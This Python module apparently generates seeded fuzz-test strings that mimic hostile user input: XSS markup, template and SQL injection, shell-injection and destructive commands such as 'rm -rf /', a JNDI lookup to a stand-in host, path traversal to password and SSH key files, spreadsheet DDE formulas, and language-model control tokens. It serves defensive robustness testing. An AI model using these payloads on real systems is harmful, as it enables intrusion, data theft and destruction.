"""Nasty texts, made from a seed: what strangers type, paste, or send in a link.

`texts(seed, n)` goes round all kinds in KINDS, so that few texts already hold each kind; every third one is mutated or
put together from several. `KNOWN` are the classics as they are. Two runs with one seed give the same texts.
"""

from __future__ import annotations

import json
import random
import sys
from collections.abc import Callable, Iterator

Random = random.Random

# What runs where markup is made of a text: each would set `window.__owned`, open a dialog, or call an address.
OWNED = "window.__owned=1"
ELSEWHERE = "http://elsewhere.invalid"
MARKUP = (
    f"<script>{OWNED}</script>",
    f"</script><script>{OWNED}</script>",
    f"<img src=x onerror={OWNED}>",
    f'"><svg onload={OWNED}>',
    f"'\"--></style></textarea></title><svg/onload={OWNED}>",
    "<iframe srcdoc='<script>parent.__owned=1</script>'></iframe>",
    f"<details open ontoggle={OWNED}>x</details>",
    f"<input autofocus onfocus={OWNED}>",
    f"<body onload={OWNED}>",
    f"<a href=\"javascript:{OWNED}\" id=owned>click</a>",
    f"<base href={ELSEWHERE}/>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<style>@import '{ELSEWHERE}/b.css';*{{display:none}}</style>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<form action={ELSEWHERE}><button>Go</button></form>",
    f"<object data={ELSEWHERE}></object><embed src={ELSEWHERE}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={OWNED}>",
    f"<template><img src=x onerror={OWNED}></template>",
    "<b>bold</b><i>it</i><sub>2</sub><br><u>x</u><s>y</s>",
    "<!-- comment --> <![CDATA[x]]> <?xml version='1.0'?> <!DOCTYPE html>",
    "&lt;b&gt; &#60;b&#62; &amp;amp; &nbsp;&zwnj;&bogus; &#x0; &#xD800;",
    "<x-y z=1>custom</x-y> <slot name=s></slot>",
)
MARKDOWN = (
    "# Heading\n\n- one\n- two\n\n> quote\n\n---\n\n```js\ncode()\n```",
    f"[link](javascript:{OWNED}) ![pixel]({ELSEWHERE}/p.png) <{ELSEWHERE}>",
    "| a | b |\n|---|---|\n| **1** | `2` |",
    "[ref][1]\n\n[1]: javascript:alert(1)\n\nfoot[^1]\n\n[^1]: note",
    "**bold** *it* ~~no~~ `code` __under__ \\*not\\*",
    ":red[x] :blue-background[y] :rainbow[z] :small[w] :green-badge[b]",
    ":material/delete: :material/home: :smile: :streamlit: :tada:",
    "-> <- -- >= <= != ~= :) :(",
    r"$x^2$ $$\int_0^\infty$$ \(a\) \[b\] $\href{javascript:alert(1)}{x}$",
    r"\documentclass{article}\input{/etc/passwd}\write18{id}\end{document}",
)
PLOTLY = (
    f'<a href="javascript:{OWNED}">cell</a>',
    f"<a href='{ELSEWHERE}' target='_blank' style='color:red'>row</a>",
    "<b>1</b><br><i>2</i><sup>3</sup><span style='font-size:90px'>big</span><extra></extra>",
    "%{x} %{y:.2f} %{customdata[0]} %{text}<extra>%{fullData.name}</extra>",
    "<em>x</em><sub>1</sub>&times;&mu;",
)
CODE = (
    "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> *{7*7} @(7*7) {0.__class__.__init__.__globals__}",
    "%s%s%s%n %x %08x %(name)s {} {0} {name!r:>10} \\x00 \\u0000 \\N{BULLET}",
    "'; DROP TABLE models;-- \" OR 1=1 /* */ UNION SELECT NULL,@@version",
    "$(id) `id` ; rm -rf / | cat & echo ! > out < in || true && false\n\\",
    "${jndi:ldap://elsewhere.invalid/a} ${env:HOME} %HOME% $HOME ~root",
    "__proto__ constructor prototype hasOwnProperty toString valueOf then",
    "null undefined NaN Infinity -Infinity true false None nil -0 1e309 0x1p-1074",
    "import os; os.system('id') # eval(input()) lambda: (yield)",
    "(a+)+$ (.*)*! ^(([a-z])+.)+[A-Z]([a-z])+$",
)
PATHS = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\con\\con", "\\\\host\\share\\x", "file:///etc/passwd",
    "/proc/self/environ", "~root/.ssh/id_rsa", "/dev/zero", "....//....//etc/hosts", "..%2f..%2fetc%2fpasswd",
    "CON PRN AUX NUL COM1 LPT1", "data:text/html,<script>1</script>", "javascript:alert(1)", "blob:null/x",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://elsewhere.invalid\",\"x\")",
    "=cmd|' /C calc'!A0", "\N{FULLWIDTH EQUALS SIGN}1+1", ";=1;\"=2\",=3", "a,\"b\"\"c\",\n=d",
)  # fmt: skip
CONTROL_TOKENS = (
    "<s>", "</s>", "[CLS]", "[SEP]", "[MASK]", "[PAD]", "[UNK]", "<pad>", "<unk>", "<mask>", "<|endoftext|>",
    "<|im_start|>", "<|im_end|>", "<extra_id_0>", "<bos>", "<eos>", "<start_of_turn>user", "<|system|>", "<<SYS>>",
    "[INST]", "[/INST]", "<0x0A>", "▁", "Ġ", "##s", "</w>", "___", "_____ ___", "<|fim_prefix|>", "<think>",
    "<|eot_id|>", "⟨80⟩", "[BLANK]",
)  # fmt: skip
FRAGMENTS = (
    '{"a": [1, 2, {"b": "', '"}]} , "', "[" * 200, '{"__proto__": {"owned": 1}}', "\\u003cscript\\u003e", "\\ud800",
    '{"text": "x"', "}{", "]]>", "\\", '\\"', "'", '"', "`", "%", "%00", "%zz", "%u0041", "+",
    "&text=x&model=y", "?a=b#c", "a;b", "=", "&&", "#",
)  # fmt: skip
WORDS = ("the", "cat", "sat", "on", "a", "mat", "because", "it", "was", "tired", "Zürich", "naïve", "1984", ".", ",")
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
NOTHING = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2061\u2062\u2063\u2064\u115f\u1160\u3164\uffa0\u2800"
SPACES = " \t\u00a0\u1680\u2000\u2003\u2009\u202f\u205f\u3000"
BREAKS = "\n\r\u000b\u000c\u0085\u2028\u2029\u001c\u001d\u001e"
CONTROLS = "".join(map(chr, [*range(32), *range(0x7F, 0xA0)]))
SELECTORS = "\ufe00\ufe0e\ufe0f\U000e0100\U000e01ef"
TAGS = "".join(map(chr, range(0xE0020, 0xE007F)))
RTL = ("القطة جلست على السجادة", "החתול ישב על המחצלת", "گربه روی فرش نشست", "ܐܒܓܕ", "𐎀𐎁𐎂", "1 + 2 = ٣", "שלום (עולם)!")
FAR = (
    "猫坐在垫子上，因为它累了。", "고양이가 매트 위에 앉았다", "ᄀᄀᄀ각ᆨᆨ", "猫がマットの上に座った。",
    "แมวนั่งบนเสื่อเพราะมันเหนื่อย", "बिल्ली चटाई पर बैठी", "𠜎𠜱𠝹𠱓",
    "ﷺﷺﷺ", "ǅ ﬁ ŉ ẞ ß ı İ", "Ａｂｃ　１２３", "ᚠᛇᚻ", "𒀱𒈙𒐫", "꧅𒐫﷽⸻", "ཧྐྵྨླྺྼྻྂ", "మ్మ్మ్ జ్ఞ‌ా", "Ω≈ç√∫˜µ≤≥÷",
)  # fmt: skip
EMOJI = (
    "😀", "👩‍👩‍👧‍👦", "👋🏽", "🏳️‍🌈", "🇨🇭🇺🇳🇩", "1️⃣#️⃣*️⃣", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "❤️‍🔥", "👩🏿‍🚀", "🫠🪿", "\u200d🧑\u200d\u200d💻\u200d", "\U0001f3fb\U0001f3fb", "©️ ™︎ ☠︎",
)  # fmt: skip
# One that a text box would take, and one beyond all limits.
LONG, PASTE = 3_000, 1_000_000

KNOWN = (
    *MARKUP, *MARKDOWN, *PLOTLY, *CODE, *PATHS, *FORMULAS, *CONTROL_TOKENS, *FRAGMENTS, *RTL, *FAR, *EMOJI,
    "", " ", "\0", "\ud800", "\udfff\ud800", "\ufffe\uffff", "\U0010ffff", "\ufeffword", "word\0", "a\u0300" * 60,
    "\u0301", NOTHING, BIDI, SPACES, BREAKS, CONTROLS, "\u202eesrever\u202c and \u2067isolated", "x" * 512,
    "—" * 90, "\r\n" * 40,
)  # fmt: skip


def texts(seed: int, n: int) -> Iterator[str]:
    """n nasty texts, the same for the same seed: none longer than a million characters, few longer than 3,000."""
    chance = random.Random(seed)
    makers = tuple(KINDS.values())
    for number in range(n):
        text = makers[number % len(makers)](chance)
        if len(text) > LONG:
            pass  # what is huge stays huge
        elif number % 3 == 2:
            text = _mutated(chance, text)
        elif number % 7 == 6:
            text = _together(chance, text, makers[chance.randrange(len(makers))](chance))
        yield text[:PASTE]


def _known(chance: Random) -> str:
    return chance.choice(KNOWN)


def _from(*pools: tuple[str, ...]) -> Callable[[Random], str]:
    """A few pieces of one pool with words between."""

    def made(chance: Random) -> str:
        pool = chance.choice(pools)
        pieces = [chance.choice(pool) for _ in range(chance.randint(1, 3))]
        return " ".join([_sentence(chance), *pieces, _sentence(chance)]).strip()

    return made


def _sprinkled(characters: str) -> Callable[[Random], str]:
    """A sentence with these characters anywhere in it, also within words; now and then alone."""

    def made(chance: Random) -> str:
        if chance.random() < 0.15:
            return "".join(chance.choices(characters, k=chance.randint(1, 40)))
        letters = list(_sentence(chance))
        for _ in range(chance.randint(1, 30)):
            letters.insert(chance.randint(0, len(letters)), chance.choice(characters))
        return "".join(letters)

    return made


def _zalgo(chance: Random) -> str:
    """Letters under stacks of combining marks."""
    marks = [chr(code) for block in ((0x300, 0x370), (0x1AB0, 0x1ACF), (0x20D0, 0x20F0)) for code in range(*block)]
    return "".join(
        letter + "".join(chance.choices(marks, k=chance.choice((0, 1, 3, 12, 40)))) for letter in _sentence(chance)
    )


def _planes(chance: Random) -> str:
    """Characters of any plane: assigned, unassigned, private, non-characters."""
    found = []
    for _ in range(chance.randint(1, 40)):
        plane = chance.randrange(17)
        found.append(chr(min(plane * 0x10000 + chance.randrange(0x10000), sys.maxunicode)))
    return "".join(found)


def _surrogates(chance: Random) -> str:
    """Halves of pairs, alone, turned round, or beside what they belong to."""
    halves = [chr(chance.randrange(0xD800, 0xE000)) for _ in range(chance.randint(1, 6))]
    return "".join(half + chance.choice(("", "a", " ", "😀", "\0")) for half in halves)


def _long_word(chance: Random) -> str:
    piece = chance.choice(("a", "Wm", "—", "字", "ab1", "\u0301", "\u200b", "_", "🙂", "ﷺ", "<", "&", "((", "نص"))
    return (piece * LONG)[: chance.choice((100, 400, LONG))]


def _repeated(chance: Random) -> str:
    """One word many times: the tokens of a text as long as is allowed, and just above."""
    word = chance.choice(("a ", "1 ", "x\n", "😀 ", ". ", "the cat ", "字 ", "[MASK] "))
    return word * chance.choice((20, 200, 511, 600))


def _paste(chance: Random) -> str:
    """Pastes of up to a megabyte; most of them small enough to be looked at."""
    if chance.random() < 0.75:
        return " ".join(_sentence(chance) for _ in range(chance.randint(2, 8)))
    piece = chance.choice(("a", "word ", "<b>", "\n", "\0", "\u202e", "😀", "=1+1,", "[CLS]", "\u0300", "{"))
    return piece * (chance.choice((20_001, 100_000, PASTE)) // len(piece))


def _json(chance: Random) -> str:
    """JSON of anything, cut anywhere."""
    thing: object = chance.choice((1, "x", None, [], {}, 1e300))
    for _ in range(chance.randint(1, 12)):
        thing = [thing, chance.choice(FRAGMENTS)] if chance.random() < 0.5 else {chance.choice(KNOWN): thing}
    written = json.dumps(thing, ensure_ascii=chance.random() < 0.5)
    return written[: chance.choice((len(written), len(written) // 2, 80))]


def _invisible(chance: Random) -> str:
    """Nothing that shows: what a text box would call empty, and what it would not."""
    return "".join(chance.choices(NOTHING + SPACES + BREAKS + BIDI + SELECTORS, k=chance.randint(1, 60)))


def _sentence(chance: Random) -> str:
    return " ".join(chance.choices(WORDS, k=chance.randint(1, 9)))


def _together(chance: Random, one: str, other: str) -> str:
    return one[:LONG] + chance.choice(("", " ", "\n", "\u202e", "\0", "\u200d", "<", "&", "\u0301")) + other[:LONG]


def _mutated(chance: Random, text: str) -> str:
    """The text after a few accidents: cut, doubled, turned round, letters replaced, another case, escapes."""
    text = text[:LONG]
    for _ in range(chance.randint(1, 4)):
        text = chance.choice(MUTATIONS)(chance, text)[:LONG]
    return text


def _cut(chance: Random, text: str) -> str:
    start = chance.randint(0, len(text))
    return text[start:] + text[: start // 2]


def _replaced(chance: Random, text: str) -> str:
    letters = list(text)
    for _ in range(min(len(letters), chance.randint(1, 5))):
        letters[chance.randrange(len(letters))] = chance.choice(CONTROLS + BIDI + NOTHING + BREAKS + "<>&\"'`$%{}[]\\")
    return "".join(letters)


def _escaped(chance: Random, text: str) -> str:
    as_entities = "".join(f"&#{ord(letter)};" for letter in text[:60])
    as_percents = text[:60].encode("utf-8", "replace").hex("%")
    as_backslashes = text[:60].encode("unicode_escape", "replace").decode("ascii")
    return chance.choice((as_entities, f"%{as_percents}", as_backslashes))


MUTATIONS: tuple[Callable[[Random, str], str], ...] = (
    _cut,
    _replaced,
    _escaped,
    lambda chance, text: text[::-1],
    lambda chance, text: text * chance.randint(2, 3),
    lambda chance, text: chance.choice((str.upper, str.lower, str.title, str.swapcase))(text),
    lambda chance, text: "".join(letter + chance.choice(SELECTORS + TAGS) for letter in text[:100]),
    lambda chance, text: text.encode("utf-8", "surrogatepass").decode("latin-1"),
    lambda chance, text: chance.choice(BREAKS).join(text.split(" ")),
    lambda chance, text: chance.choice(BIDI) + text,
)

KINDS: dict[str, Callable[[Random], str]] = {
    "known": _known,
    "markup": _from(MARKUP, PLOTLY),
    "controls": _sprinkled(CONTROLS),
    "bidi": _sprinkled(BIDI + "אבגدها"),
    "zero-width": _sprinkled(NOTHING),
    "markdown": _from(MARKDOWN),
    "zalgo": _zalgo,
    "planes": _planes,
    "emoji": _from(EMOJI),
    "surrogates": _surrogates,
    "code": _from(CODE, PATHS, FORMULAS),
    "scripts": _from(RTL, FAR),
    "long word": _long_word,
    "control tokens": _from(CONTROL_TOKENS),
    "invisible": _invisible,
    "breaks": _sprinkled(BREAKS + SPACES),
    "json": _json,
    "fragments": _from(FRAGMENTS),
    "repeated": _repeated,
    "paste": _paste,
}
